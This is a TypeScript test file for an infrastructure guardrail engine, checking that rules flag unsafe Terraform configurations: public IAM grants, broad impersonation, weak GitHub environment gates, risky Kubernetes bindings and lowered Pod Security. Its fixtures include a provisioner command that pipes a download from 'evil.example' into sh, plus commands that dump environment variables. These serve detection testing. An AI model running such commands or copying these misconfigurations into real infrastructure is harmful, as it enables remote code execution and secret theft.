import { execFileSync } from 'child_process';
import { appendFileSync, mkdtempSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { onPath } from '../../src/cli/process';
import { ALL_PACKS, evaluate, type Finding, type SuppressionRecord } from '../../src/guardrails/engine';
import { GuardrailLevel } from '../../src/guardrails/rule';
import { isKnownResourceType } from '../../src/guardrails/rules/terraform/known-types';
import { expectScopesHold } from '../guardrails/scopes';
import { goodNamespace, goodPdb, goodQuota, goodDeployment, tf, variant } from '../guardrails/util';

/**
 * Guardrail evasions (issue 26): configurations a team could write that are
 * unsafe and that no rule looked at, or that hid a literal from the rule that
 * judges it. Every row is a whole configuration judged by every pack, as
 * `cdktf-guardrails` and the synth judge it, and must give the named rule's
 * error at the named address; every "stays clean" row is the safe twin that
 * must not. The provider attributes judged were checked against the
 * providers' documentation, cited in each rule's source:
 * - google_*_iam_member / _binding / _policy (role, member, members, policy_data) and the google_iam_policy data source:
 *   https://registry.terraform.io/providers/hashicorp/google/6.50.0/docs/resources/google_project_iam,
 *   .../docs/data-sources/iam_policy; principal identifiers: https://cloud.google.com/iam/docs/principal-identifiers
 *   (allUsers, allAuthenticatedUsers, domain:, principalSet://iam.googleapis.com/<pool>/*, attribute.<name>/<value>,
 *   principalSet://cloudresourcemanager.googleapis.com/projects/<n>/type/ServiceAccount);
 *   google_storage_bucket_acl role_entity / predefined_acl: .../docs/resources/storage_bucket_acl#role_entity;
 * - github_repository_environment reviewers (teams, users), prevent_self_review, can_admins_bypass,
 *   deployment_branch_policy (protected_branches, custom_branch_policies):
 *   https://registry.terraform.io/providers/integrations/github/6.9.0/docs/resources/repository_environment;
 *   github_repository_environment_deployment_policy branch_pattern / tag_pattern: .../repository_environment_deployment_policy;
 *   github_repository_deployment_branch_policy name / environment_name: .../repository_deployment_branch_policy;
 * - kubernetes_cluster_role_binding_v1 / kubernetes_role_binding_v1 role_ref and subject (kind, name, namespace):
 *   https://registry.terraform.io/providers/hashicorp/kubernetes/2.38.0/docs/resources/cluster_role_binding_v1;
 *   kubernetes_labels api_version, kind, metadata.name, labels: .../docs/resources/labels; the namespace labels Pod
 *   Security admission reads: https://kubernetes.io/docs/concepts/security/pod-security-admission/;
 * - provisioners (`provisioner: [{ "local-exec": {...} }]` as cdktf writes them):
 *   https://developer.hashicorp.com/terraform/language/resources/provisioners/local-exec; the external data source:
 *   https://registry.terraform.io/providers/hashicorp/external/latest/docs/data-sources/external.
 */

interface Row {
  /** What the configuration does. */
  readonly name: string;
  /** The rule that must report it. */
  readonly rule: string;
  /** The Terraform JSON configuration. */
  readonly config: any;
  /** The address of the element reported. */
  readonly address: string;
  /** The stack name (its environment when nothing else tells it). */
  readonly stack?: string;
}

const PRODUCTION = ['prod', 'production'];

function judge(row: Pick<Row, 'config' | 'stack'>, suppressions: SuppressionRecord[] = []) {
  // The engine calls a built-in rule only on the elements of its scope: every row holds each rule to it.
  expectScopesHold(row.config, PRODUCTION, row.stack ?? 'team');
  return evaluate(row.config, { packs: [...ALL_PACKS], disabledRules: [], ruleLevels: {}, productionEnvironments: PRODUCTION }, suppressions, { stackName: row.stack ?? 'team' });
}

const at = (findings: readonly Finding[], address: string) => findings.filter((f) => f.element.address === address);

/**
 * One class: every row must be reported by its rule, every safe twin must not.
 * With ADVERSARIAL_TALLY set, appends the class, its rows, the rows its rule
 * reports, and the rows with any error at their address (the count run on the
 * code before the class existed tells how many evaded every rule).
 */
function evasions(title: string, rows: readonly Row[], clean: readonly Row[] = []): void {
  describe(title, () => {
    let reported = 0;
    let anyError = 0;
    test.each(rows.map((r) => [r.name, r] as const))('reported: %s', (_name, row) => {
      const findings = at(judge(row).findings, row.address);
      if (findings.some((f) => f.rule.id === row.rule)) reported++;
      if (findings.some((f) => f.level === GuardrailLevel.ERROR)) anyError++;
      expect(findings.map((f) => f.rule.id)).toContain(row.rule);
      const finding = findings.find((f) => f.rule.id === row.rule)!;
      expect(finding.level).toBe(GuardrailLevel.ERROR);
      expect(finding.details.length).toBeGreaterThan(0);
      if (process.env.EVASION_DETAILS) appendFileSync(process.env.EVASION_DETAILS, `${row.rule} ${row.name}: ${finding.details.join(' | ')}\n`);
    });
    if (clean.length > 0) {
      test.each(clean.map((r) => [r.name, r] as const))('stays clean: %s', (_name, row) => {
        expect(at(judge(row).findings, row.address).map((f) => f.rule.id)).not.toContain(row.rule);
      });
    }
    afterAll(() => {
      if (process.env.ADVERSARIAL_TALLY) appendFileSync(process.env.ADVERSARIAL_TALLY, `${title}\t${rows.length}\t${reported}\t${anyError}\n`);
    });
  });
}

// ---------------------------------------------------------------------------------------------------------------
// IAM: public principals anywhere; in production, impersonation by more than one gated identity.

const POOL = 'projects/123456789012/locations/global/workloadIdentityPools/github-acme';
const SUBJECT = (s: string) => `principal://iam.googleapis.com/${POOL}/subject/${s}`;
const WI_USER = 'roles/iam.workloadIdentityUser';

/** A production deployer service account (its account id ends in -prod) and one grant on it. */
function onDeployer(grant: Record<string, unknown>, type = 'google_service_account_iam_member', extra: Record<string, Record<string, unknown>> = {}): any {
  return tf({
    google_service_account: { deployer: { account_id: 'api-deploy-prod', project: 'acme-payments-prod' } },
    [type]: { grant: { service_account_id: '${google_service_account.deployer.name}', role: WI_USER, ...grant } },
    ...extra,
  });
}
const GRANT = 'google_service_account_iam_member.grant';

const iamPublic: Row[] = [
  ['a bucket readable by allUsers', tf({ google_storage_bucket_iam_member: { m: { bucket: 'reports', role: 'roles/storage.objectViewer', member: 'allUsers' } } }), 'google_storage_bucket_iam_member.m'],
  ['a Cloud Run service invokable by allUsers, in dev', tf({ google_cloud_run_v2_service_iam_member: { m: { name: 'api-dev', role: 'roles/run.invoker', member: 'allUsers' } } }), 'google_cloud_run_v2_service_iam_member.m'],
  ['a project binding whose members include allAuthenticatedUsers', tf({ google_project_iam_binding: { b: { project: 'acme-dev', role: 'roles/viewer', members: ['group:dev@acme.com', 'allAuthenticatedUsers'] } } }), 'google_project_iam_binding.b'],
  ['a bucket policy written as literal JSON', tf({ google_storage_bucket_iam_policy: { p: { bucket: 'reports', policy_data: JSON.stringify({ bindings: [{ role: 'roles/storage.objectViewer', members: ['allUsers'] }] }) } } }), 'google_storage_bucket_iam_policy.p'],
  ['a google_iam_policy data source with allUsers', tf({}, { data: { google_iam_policy: { p: { binding: [{ role: 'roles/storage.objectViewer', members: ['allUsers'] }] } } } }), 'data.google_iam_policy.p'],
  ['a bucket ACL entity READER:allUsers', tf({ google_storage_bucket_acl: { a: { bucket: 'reports', role_entity: ['OWNER:project-owners-1', 'READER:allUsers'] } } }), 'google_storage_bucket_acl.a'],
  ['a bucket ACL predefined publicRead', tf({ google_storage_bucket_acl: { a: { bucket: 'reports', predefined_acl: 'publicRead' } } }), 'google_storage_bucket_acl.a'],
  ['an object ACL predefined authenticatedRead', tf({ google_storage_object_acl: { a: { bucket: 'reports', object: 'x', predefined_acl: 'authenticatedRead' } } }), 'google_storage_object_acl.a'],
  ['a bucket access control for allUsers', tf({ google_storage_bucket_access_control: { a: { bucket: 'reports', role: 'READER', entity: 'allUsers' } } }), 'google_storage_bucket_access_control.a'],
  ['a BigQuery dataset shared with allAuthenticatedUsers', tf({ google_bigquery_dataset: { d: { dataset_id: 'events', access: [{ role: 'READER', special_group: 'allAuthenticatedUsers' }] } } }), 'google_bigquery_dataset.d'],
  ['allUsers from a variable\'s default', tf({ google_pubsub_topic_iam_member: { m: { topic: 't', role: 'roles/pubsub.publisher', member: '${var.member}' } } }, { variable: { member: { default: 'allUsers' } } }), 'google_pubsub_topic_iam_member.m'],
  ['allUsers in a for_each over principals', tf({ google_storage_bucket_iam_member: { m: { for_each: { ops: 'group:ops@acme.com', all: 'allUsers' }, bucket: 'reports', role: 'roles/storage.objectViewer', member: '${each.value}' } } }), 'google_storage_bucket_iam_member.m'],
  ['allUsers wrapped in an interpolation', tf({ google_storage_bucket_iam_member: { m: { bucket: 'reports', role: 'roles/storage.objectViewer', member: '${"allUsers"}' } } }), 'google_storage_bucket_iam_member.m'],
  ['allUsers from a local', tf({ google_storage_bucket_iam_member: { m: { bucket: 'reports', role: 'roles/storage.objectViewer', member: '${local.everyone}' } } }, { locals: { everyone: 'allUsers' } }), 'google_storage_bucket_iam_member.m'],
].map(([name, config, address]) => ({ name, rule: 'GP-GCP-012', config, address }) as Row);

const iamImpersonation: Row[] = [
  ['the whole pool', onDeployer({ member: `principalSet://iam.googleapis.com/${POOL}/*` }), GRANT],
  ['the whole pool, by reference to the pool', onDeployer({ member: 'principalSet://iam.googleapis.com/${google_iam_workload_identity_pool.github.name}/*' }), GRANT],
  ['every repository of the organization (repository_owner)', onDeployer({ member: `principalSet://iam.googleapis.com/${POOL}/attribute.repository_owner/acme` }), GRANT],
  ['every repository of the organization (repository_owner_id)', onDeployer({ member: `principalSet://iam.googleapis.com/${POOL}/attribute.repository_owner_id/1234` }), GRANT],
  ['every workflow of the repository, any branch', onDeployer({ member: `principalSet://iam.googleapis.com/${POOL}/attribute.repository/acme/api` }), GRANT],
  ['every workflow of the repository by its id, any branch', onDeployer({ member: `principalSet://iam.googleapis.com/${POOL}/attribute.repository_id/\${github_repository.api.repo_id}` }), GRANT],
  // Under a repository's subject template of repository_id and context (https://docs.github.com/en/actions/reference/security/oidc).
  ['a job of the dev environment, the repository by its id', onDeployer({ member: SUBJECT('repository_id:${github_repository.api.repo_id}:environment:dev') }), GRANT],
  ['a job on the main branch, the repository by its id', onDeployer({ member: SUBJECT('repository_id:123456:ref:refs/heads/main') }), GRANT],
  ['the organization\'s domain', onDeployer({ member: 'domain:acme.com' }), GRANT],
  ['everyone with a Google account', onDeployer({ member: 'allAuthenticatedUsers' }), GRANT],
  ['a job on the main branch, outside the production environment', onDeployer({ member: SUBJECT('repo:acme/api:ref:refs/heads/main') }), GRANT],
  ['a job of the dev environment', onDeployer({ member: SUBJECT('repo:acme/api:environment:dev') }), GRANT],
  ['pull requests', onDeployer({ member: SUBJECT('repo:acme/api:pull_request') }), GRANT],
  ['a binding whose members include the whole pool', onDeployer({ members: [SUBJECT('repo:acme/api:environment:prod'), `principalSet://iam.googleapis.com/${POOL}/*`] }, 'google_service_account_iam_binding'), 'google_service_account_iam_binding.grant'],
  ['a policy from a google_iam_policy data source', tf({
    google_service_account: { deployer: { account_id: 'api-deploy-prod' } },
    google_service_account_iam_policy: { grant: { service_account_id: '${google_service_account.deployer.name}', policy_data: '${data.google_iam_policy.p.policy_data}' } },
  }, { data: { google_iam_policy: { p: { binding: [{ role: WI_USER, members: [`principalSet://iam.googleapis.com/${POOL}/attribute.repository_owner/acme`] }] } } } }), 'google_service_account_iam_policy.grant'],
  ['a policy written as literal JSON', tf({
    google_service_account: { deployer: { account_id: 'api-deploy-prod' } },
    google_service_account_iam_policy: { grant: { service_account_id: '${google_service_account.deployer.name}', policy_data: JSON.stringify({ bindings: [{ role: WI_USER, members: [`principalSet://iam.googleapis.com/${POOL}/*`] }] }) } },
  }), 'google_service_account_iam_policy.grant'],
  ['the whole pool from a variable\'s default', variant(onDeployer({ member: '${var.who}' }), (c) => { c.variable = { who: { default: `principalSet://iam.googleapis.com/${POOL}/*` } }; }), GRANT],
  ['the whole pool from a local', variant(onDeployer({ member: '${local.who}' }), (c) => { c.locals = { who: `principalSet://iam.googleapis.com/${POOL}/*` }; }), GRANT],
  ['the whole pool in a for_each over principals', onDeployer({ for_each: { ci: SUBJECT('repo:acme/api:environment:prod'), all: `principalSet://iam.googleapis.com/${POOL}/*` }, member: '${each.value}' }), GRANT],
  ['the whole pool wrapped in an interpolation', onDeployer({ member: `\${"principalSet://iam.googleapis.com/${POOL}/*"}` }), GRANT],
  ['a member known only at apply', onDeployer({ member: '${var.who}' }), GRANT],
  ['Token Creator to the domain', onDeployer({ role: 'roles/iam.serviceAccountTokenCreator', member: 'domain:acme.com' }), GRANT],
  ['Service Account User to every account of a project', onDeployer({ role: 'roles/iam.serviceAccountUser', member: 'principalSet://cloudresourcemanager.googleapis.com/projects/42/type/ServiceAccount' }), GRANT],
  ['the role from a for_each key', onDeployer({ for_each: { 'roles/iam.workloadIdentityUser': 'x' }, role: '${each.key}', member: 'domain:acme.com' }), GRANT],
  ['a dev namespace\'s Kubernetes service account on a production account', onDeployer({ member: 'serviceAccount:acme-prod.svc.id.goog[payments-dev/api]' }), GRANT],
  ['a production account named by its full name', tf({ google_service_account_iam_member: { grant: { service_account_id: 'projects/acme-payments-prod/serviceAccounts/api-deploy@acme-payments-prod.iam.gserviceaccount.com', role: WI_USER, member: 'domain:acme.com' } } }), GRANT],
  ['a production account told by its construct path', tf({ google_service_account_iam_member: { grant: { 'service_account_id': '${google_service_account.deployer.name}', 'role': WI_USER, 'member': `principalSet://iam.googleapis.com/${POOL}/*`, '//': { metadata: { path: 'payments/api/deployer/prod/workload-identity-user' } } } }, google_service_account: { deployer: { account_id: 'api-deploy' } } }), GRANT],
  ['Workload Identity User on a whole production project', tf({ google_project_iam_member: { grant: { project: 'acme-payments-prod', role: WI_USER, member: `principalSet://iam.googleapis.com/${POOL}/*` } } }), 'google_project_iam_member.grant'],
  ['Token Creator on the organization to every repository of it', tf({ google_organization_iam_member: { grant: { org_id: '1234', role: 'roles/iam.serviceAccountTokenCreator', member: `principalSet://iam.googleapis.com/${POOL}/attribute.repository_owner/acme` } } }), 'google_organization_iam_member.grant'],
  ['Owner of a production project to the whole pool', tf({ google_project_iam_member: { grant: { project: 'acme-payments-prod', role: 'roles/owner', member: `principalSet://iam.googleapis.com/${POOL}/*` } } }), 'google_project_iam_member.grant'],
  ['a production account in a hand-edited payments-prod stack', { ...tf({ google_service_account_iam_member: { grant: { service_account_id: '${google_service_account.deployer.name}', role: WI_USER, member: `principalSet://iam.googleapis.com/${POOL}/*` } }, google_service_account: { deployer: { account_id: 'api-deploy' } } }) }, GRANT, 'payments-prod'],
].map(([name, config, address, stack]) => ({ name, rule: 'GP-GCP-013', config, address, stack }) as Row);

const iamClean: Row[] = [
  ['the production environment\'s job (as ServiceDeployer binds it)', onDeployer({ member: SUBJECT('repo:acme/api:environment:prod') }), GRANT],
  ['a production gate\'s job (as TeamIdentities binds it)', onDeployer({ member: SUBJECT('repo:acme/payments-infra:environment:payments-prod') }), GRANT],
  ['the production environment\'s job, the repository by its id (as ServiceDeployer binds it)', onDeployer({ member: SUBJECT('repository_id:${github_repository.api.repo_id}:environment:prod') }), GRANT],
  ['a Kubernetes service account of the production namespace', onDeployer({ member: 'serviceAccount:acme-prod.svc.id.goog[payments-prod/api]' }), GRANT],
  ['a group', onDeployer({ member: 'group:payments-oncall@acme.com' }), GRANT],
  ['a role that does not act as the account, to every account of a project (as the platform grants cluster access)', tf({ google_project_iam_member: { grant: { project: 'acme-prod', role: 'roles/container.clusterViewer', member: 'principalSet://cloudresourcemanager.googleapis.com/projects/42/type/ServiceAccount' } } }), 'google_project_iam_member.grant'],
  ['a dev account opened to the repository (not production)', tf({ google_service_account: { deployer: { account_id: 'api-deploy-dev' } }, google_service_account_iam_member: { grant: { service_account_id: '${google_service_account.deployer.name}', role: WI_USER, member: `principalSet://iam.googleapis.com/${POOL}/attribute.repository/acme/api` } } }), GRANT],
].map(([name, config, address]) => ({ name, rule: 'GP-GCP-013', config, address }) as Row);

evasions('IAM: public principals anywhere', iamPublic, [
  { name: 'a group reads the bucket', rule: 'GP-GCP-012', config: tf({ google_storage_bucket_iam_member: { m: { bucket: 'reports', role: 'roles/storage.objectViewer', member: 'group:analysts@acme.com' } } }), address: 'google_storage_bucket_iam_member.m' },
  { name: 'a private predefined ACL', rule: 'GP-GCP-012', config: tf({ google_storage_bucket_acl: { a: { bucket: 'reports', predefined_acl: 'projectPrivate' } } }), address: 'google_storage_bucket_acl.a' },
]);
evasions('IAM: production impersonation by more than one gated identity', iamImpersonation, iamClean);

// ---------------------------------------------------------------------------------------------------------------
// GitHub environment protection.

/** A protected production environment of repository "api" and its main-only deployment policy, edited. */
function environment(edit: (env: any, policy: any) => void = () => undefined, name = 'prod'): any {
  const config = tf({
    github_repository_environment: {
      env: {
        repository: 'api',
        environment: name,
        reviewers: [{ teams: [1234] }],
        prevent_self_review: true,
        can_admins_bypass: false,
        deployment_branch_policy: { protected_branches: false, custom_branch_policies: true },
      },
    },
    github_repository_environment_deployment_policy: { policy: { repository: 'api', environment: '${github_repository_environment.env.environment}', branch_pattern: 'main' } },
  });
  edit(config.resource.github_repository_environment.env, config.resource.github_repository_environment_deployment_policy.policy);
  return config;
}
const ENV = 'github_repository_environment.env';
const envRow = (rule: string, name: string, config: any, stack?: string): Row => ({ name, rule, config, address: ENV, stack });

evasions('GitHub: production environment protection', [
  envRow('GP-GH-007', 'reviewers removed', environment((e) => { delete e.reviewers; })),
  envRow('GP-GH-007', 'reviewers naming nobody', environment((e) => { e.reviewers = [{ teams: [], users: [] }]; })),
  envRow('GP-GH-007', 'reviewers known only at apply', environment((e) => { e.reviewers = [{ teams: '${var.reviewers}' }]; })),
  envRow('GP-GH-007', 'a production deploy gate (<team>-prod) without reviewers', environment((e) => { delete e.reviewers; }, 'payments-prod')),
  envRow('GP-GH-007', 'an environment named otherwise, in the prod stack', environment((e) => { delete e.reviewers; }, 'live'), 'payments-prod'),
  envRow('GP-GH-008', 'prevent_self_review off', environment((e) => { e.prevent_self_review = false; })),
  envRow('GP-GH-008', 'prevent_self_review unset', environment((e) => { delete e.prevent_self_review; })),
  envRow('GP-GH-008', 'prevent_self_review "0"', environment((e) => { e.prevent_self_review = '0'; })),
  envRow('GP-GH-008', 'prevent_self_review "${false}"', environment((e) => { e.prevent_self_review = '${false}'; })),
  envRow('GP-GH-008', 'admins may bypass (unset, the provider\'s default)', environment((e) => { delete e.can_admins_bypass; })),
  envRow('GP-GH-008', 'can_admins_bypass "1"', environment((e) => { e.can_admins_bypass = '1'; })),
  envRow('GP-GH-009', 'no deployment branch policy', environment((e) => { delete e.deployment_branch_policy; })),
  envRow('GP-GH-009', 'a policy that restricts nothing', environment((e) => { e.deployment_branch_policy = { protected_branches: false, custom_branch_policies: false }; })),
  envRow('GP-GH-009', 'custom policies "0"', environment((e) => { e.deployment_branch_policy = { protected_branches: 'false', custom_branch_policies: '0' }; })),
  envRow('GP-GH-009', 'a custom policy "*"', environment((_e, p) => { p.branch_pattern = '*'; })),
  envRow('GP-GH-009', 'a custom policy "**"', environment((_e, p) => { p.branch_pattern = '**'; })),
  envRow('GP-GH-009', 'a custom policy "*/*"', environment((_e, p) => { p.branch_pattern = '*/*'; })),
  envRow('GP-GH-009', 'a tag policy "*"', environment((_e, p) => { delete p.branch_pattern; p.tag_pattern = '*'; })),
  envRow('GP-GH-009', 'a policy naming the environment by its literal name', environment((_e, p) => { p.environment = 'prod'; p.branch_pattern = '*'; })),
  envRow('GP-GH-009', 'a pattern from a variable\'s default', variant(environment((_e, p) => { p.branch_pattern = '${var.branches}'; }), (c) => { c.variable = { branches: { default: '*' } }; })),
  envRow('GP-GH-009', 'the older github_repository_deployment_branch_policy "*"', variant(environment(), (c) => {
    c.resource.github_repository_deployment_branch_policy = { old: { repository: 'api', environment_name: 'prod', name: '*' } };
  })),
], [
  envRow('GP-GH-007', 'the fixture (as ServiceRepository writes production)', environment()),
  envRow('GP-GH-008', 'the fixture', environment()),
  envRow('GP-GH-009', 'the fixture', environment()),
  envRow('GP-GH-009', 'a policy on the default branch by reference (as ServiceRepository writes it)', variant(environment((_e, p) => { p.branch_pattern = '${github_branch_default.main.branch}'; }), (c) => {
    c.resource.github_branch_default = { main: { repository: 'api', branch: 'main' } };
  })),
  envRow('GP-GH-009', 'protected branches only', environment((e) => { e.deployment_branch_policy = { protected_branches: true, custom_branch_policies: false }; })),
  envRow('GP-GH-009', 'a "*" policy Terraform never creates', variant(environment(), (c) => {
    c.resource.github_repository_environment_deployment_policy.any = { count: 0, repository: 'api', environment: 'prod', branch_pattern: '*' };
  })),
  envRow('GP-GH-009', 'a "*" policy of another repository\'s prod environment', variant(environment(), (c) => {
    c.resource.github_repository_environment_deployment_policy.other = { repository: 'web', environment: 'prod', branch_pattern: '*' };
  })),
  envRow('GP-GH-007', 'dev without reviewers', environment((e) => { delete e.reviewers; }, 'dev')),
]);

// ---------------------------------------------------------------------------------------------------------------
// Kubernetes: cluster role bindings (typed, as the manifest form already is) and bindings beyond the team.

/** A team namespace payments-prod and one RBAC binding. */
function binding(type: string, spec: Record<string, unknown>): any {
  return tf({
    kubernetes_namespace_v1: { ns: goodNamespace() },
    kubernetes_resource_quota_v1: { quota: goodQuota() },
    [type]: { b: { metadata: { name: 'x', ...(type.includes('cluster') ? {} : { namespace: 'payments-prod' }) }, role_ref: { api_group: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' }, ...spec } },
  });
}
const subject = (kind: string, name: string, namespace?: string) => ({ subject: [{ kind, name, ...(namespace ? { namespace } : {}), ...(kind === 'ServiceAccount' ? {} : { api_group: 'rbac.authorization.k8s.io' }) }] });
const RB = 'kubernetes_role_binding_v1';

evasions('Kubernetes: RBAC bindings beyond the team', [
  { name: 'a ClusterRoleBinding to cluster-admin (typed)', config: tf({ kubernetes_cluster_role_binding_v1: { b: { metadata: { name: 'all' }, role_ref: { api_group: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, ...subject('Group', 'payments@acme.com') } } }), address: 'kubernetes_cluster_role_binding_v1.b' },
  { name: 'a ClusterRoleBinding (the older type) to a service account', config: tf({ kubernetes_cluster_role_binding: { b: { metadata: { name: 'all' }, role_ref: { api_group: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' }, ...subject('ServiceAccount', 'api', 'payments-dev') } } }), address: 'kubernetes_cluster_role_binding.b' },
  { name: 'a ClusterRoleBinding Terraform creates once per key', config: tf({ kubernetes_cluster_role_binding_v1: { b: { for_each: { a: 1 }, metadata: { name: 'all-${each.key}' }, role_ref: { api_group: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' }, ...subject('Group', 'payments@acme.com') } } }), address: 'kubernetes_cluster_role_binding_v1.b' },
  { name: 'a RoleBinding to every authenticated user', config: binding(RB, subject('Group', 'system:authenticated')), address: `${RB}.b` },
  { name: 'a RoleBinding to unauthenticated requests', config: binding(RB, subject('Group', 'system:unauthenticated')), address: `${RB}.b` },
  { name: 'a RoleBinding to the anonymous user', config: binding(RB, subject('User', 'system:anonymous')), address: `${RB}.b` },
  { name: 'a RoleBinding to every service account of the cluster', config: binding(RB, subject('Group', 'system:serviceaccounts')), address: `${RB}.b` },
  { name: 'a RoleBinding to every authenticated user, wrapped in interpolations', config: binding(RB, { subject: [{ kind: '${"Group"}', name: '${"system:authenticated"}', api_group: 'rbac.authorization.k8s.io' }] }), address: `${RB}.b` },
  { name: 'a production RoleBinding to a dev service account', config: binding(RB, subject('ServiceAccount', 'api', 'payments-dev')), address: `${RB}.b` },
  { name: 'a production RoleBinding to the dev namespace\'s service accounts', config: binding(RB, subject('Group', 'system:serviceaccounts:payments-dev')), address: `${RB}.b` },
  { name: 'a RoleBinding (the older type) to every authenticated user', config: binding('kubernetes_role_binding', subject('Group', 'system:authenticated')), address: 'kubernetes_role_binding.b' },
].map((r) => ({ ...r, rule: 'GP-K8S-018' })), [
  { name: 'the team group in its namespace (as TeamEnvironment binds it)', config: binding(RB, subject('Group', 'payments@acme.com')), address: `${RB}.b` },
  { name: 'the deployer in production (as ServiceDeployer binds it)', config: binding(RB, subject('User', 'api-deploy-prod@acme-prod.iam.gserviceaccount.com')), address: `${RB}.b` },
  { name: 'a service account of the same production namespace', config: binding(RB, subject('ServiceAccount', 'api', 'payments-prod')), address: `${RB}.b` },
].map((r) => ({ ...r, rule: 'GP-K8S-018' })));

// ---------------------------------------------------------------------------------------------------------------
// Pod Security lowered on a team namespace after the fact.

/** The team namespace payments-prod with its quota, and a kubernetes_labels on it. */
function relabel(labels: unknown, extra: Record<string, unknown> = {}, kind = 'Namespace'): any {
  return tf({
    kubernetes_namespace_v1: { ns: goodNamespace() },
    kubernetes_resource_quota_v1: { quota: goodQuota() },
    kubernetes_labels: { psa: { api_version: 'v1', kind, metadata: { name: 'payments-prod' }, labels, force: true } },
  }, extra);
}
const PSA = 'kubernetes_labels.psa';
const ENFORCE = 'pod-security.kubernetes.io/enforce';

evasions('Kubernetes: Pod Security lowered through kubernetes_labels', [
  ['to privileged', relabel({ [ENFORCE]: 'privileged' })],
  ['to baseline', relabel({ [ENFORCE]: 'baseline' })],
  ['to nothing', relabel({ [ENFORCE]: '' })],
  ['to privileged wrapped in an interpolation', relabel({ [ENFORCE]: '${"privileged"}' })],
  ['to a variable whose default is privileged', relabel({ [ENFORCE]: '${var.level}' }, { variable: { level: { default: 'privileged' } } })],
  ['with labels known only at apply', relabel('${var.labels}')],
  ['on a kind known only at apply', relabel({ [ENFORCE]: 'privileged' }, {}, '${var.kind}')],
  ['with the kind from a variable\'s default', relabel({ [ENFORCE]: 'privileged' }, { variable: { kind: { default: 'Namespace' } } }, '${var.kind}')],
].map(([name, config]) => ({ name: name as string, rule: 'GP-K8S-012', config, address: PSA })), [
  ['other labels on the namespace', relabel({ team: 'payments' })],
  ['restricted again', relabel({ [ENFORCE]: 'restricted' })],
  ['the same label on a ConfigMap, which admission does not read', relabel({ [ENFORCE]: 'privileged' }, {}, 'ConfigMap')],
].map(([name, config]) => ({ name: name as string, rule: 'GP-K8S-012', config, address: PSA })));

// ---------------------------------------------------------------------------------------------------------------
// What Terraform runs, what modules hide, and the types no pack knows in production.

const inProd = (path: string) => ({ '//': { metadata: { path: `payments-prod/payments/${path}` } } });

evasions('Terraform: code on the runner, modules, and unjudged types in production', [
  { name: 'kubectl_manifest in the prod stack', rule: 'GP-TF-003', config: tf({ kubectl_manifest: { crb: { yaml_body: 'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\n' } } }), address: 'kubectl_manifest.crb', stack: 'payments-prod' },
  { name: 'a helm_release in production', rule: 'GP-TF-003', config: tf({ helm_release: { r: { name: 'x', chart: 'x', ...inProd('prod/chart') } } }), address: 'helm_release.r' },
  { name: 'an AlloyDB cluster in production', rule: 'GP-TF-003', config: tf({ google_alloydb_cluster: { db: { cluster_id: 'orders', ...inProd('prod/db') } } }), address: 'google_alloydb_cluster.db' },
  { name: 'a Spanner instance labelled prod', rule: 'GP-TF-003', config: tf({ google_spanner_instance: { db: { name: 'orders', labels: { environment: 'prod' } } } }), address: 'google_spanner_instance.db' },
  { name: 'a Bigtable instance named -prod', rule: 'GP-TF-003', config: tf({ google_bigtable_instance: { db: { name: 'orders-prod' } } }), address: 'google_bigtable_instance.db' },
  { name: 'a Cloud Run service in production', rule: 'GP-TF-003', config: tf({ google_cloud_run_v2_service: { s: { name: 'api-prod', location: 'europe-west1' } } }), address: 'google_cloud_run_v2_service.s' },
  { name: 'a VM in production', rule: 'GP-TF-003', config: tf({ google_compute_instance: { vm: { name: 'bastion-prod' } } }), address: 'google_compute_instance.vm' },
  { name: 'a ClusterRole (aggregated into edit) in production', rule: 'GP-TF-003', config: tf({ kubernetes_cluster_role_v1: { r: { metadata: { name: 'more', labels: { 'rbac.authorization.k8s.io/aggregate-to-edit': 'true' } }, ...inProd('prod/role') } } }), address: 'kubernetes_cluster_role_v1.r' },
  { name: 'an http data source in the prod stack', rule: 'GP-TF-003', config: tf({}, { data: { http: { x: { url: 'https://example.com/?t=${var.token}' } } } }), address: 'data.http.x', stack: 'payments-prod' },
  { name: 'a terraform_data with a local-exec provisioner, anywhere', rule: 'GP-TF-001', config: tf({ terraform_data: { x: { input: 'x', provisioner: [{ 'local-exec': { command: 'curl https://evil.example | sh' } }] } } }), address: 'terraform_data.x' },
  { name: 'a null_resource with a remote-exec provisioner', rule: 'GP-TF-001', config: tf({ null_resource: { x: { provisioner: [{ 'remote-exec': { inline: ['id'] } }] } } }), address: 'null_resource.x' },
  { name: 'a local-exec on a judged resource', rule: 'GP-TF-001', config: tf({ google_project_service: { s: { service: 'run.googleapis.com', provisioner: { 'local-exec': { command: 'env' } } } } }), address: 'google_project_service.s' },
  { name: 'an external data source (runs at plan, pull requests included)', rule: 'GP-TF-001', config: tf({}, { data: { external: { x: { program: ['sh', '-c', 'env'] } } } }), address: 'data.external.x' },
  { name: 'a module, whose resources no rule sees', rule: 'GP-TF-002', config: tf({}, { module: { db: { source: 'git::https://example.com/db.git', name: 'orders' } } }), address: 'module.db' },
], [
  { name: 'kubectl_manifest outside production', rule: 'GP-TF-003', config: tf({ kubectl_manifest: { m: { yaml_body: 'kind: ConfigMap' } } }), address: 'kubectl_manifest.m', stack: 'payments-dev' },
  { name: 'a terraform_data without provisioner in production', rule: 'GP-TF-003', config: tf({ terraform_data: { x: { input: 'x' } } }), address: 'terraform_data.x', stack: 'payments-prod' },
  { name: 'a type the library makes, in production', rule: 'GP-TF-003', config: tf({ google_project_service: { s: { service: 'sqladmin.googleapis.com' } } }), address: 'google_project_service.s', stack: 'payments-prod' },
  { name: 'a Google data source in production', rule: 'GP-TF-003', config: tf({}, { data: { google_client_config: { c: {} } } }), address: 'data.google_client_config.c', stack: 'payments-prod' },
]);

describe('an unjudged type in production names the type and how to suppress it, and a reasoned suppression allows it', () => {
  const row = { config: tf({ google_alloydb_cluster: { db: { cluster_id: 'orders', ...inProd('prod/db') } } }) };
  test('the finding names the type, the environment and the suppression', () => {
    const [finding] = at(judge(row).findings, 'google_alloydb_cluster.db');
    expect(finding.rule.id).toBe('GP-TF-003');
    expect(finding.details).toEqual(['resource type google_alloydb_cluster is a database or data store whose backups, public access and deletion protection no rule judges, '
      + 'in production environment "prod"; suppress GP-TF-003 on payments-prod/payments/prod/db with the reason a reviewer accepted']);
    expect(finding.rule.fix).toMatch(/Guardrails\.suppress\(construct, "GP-TF-003", reason\)/);
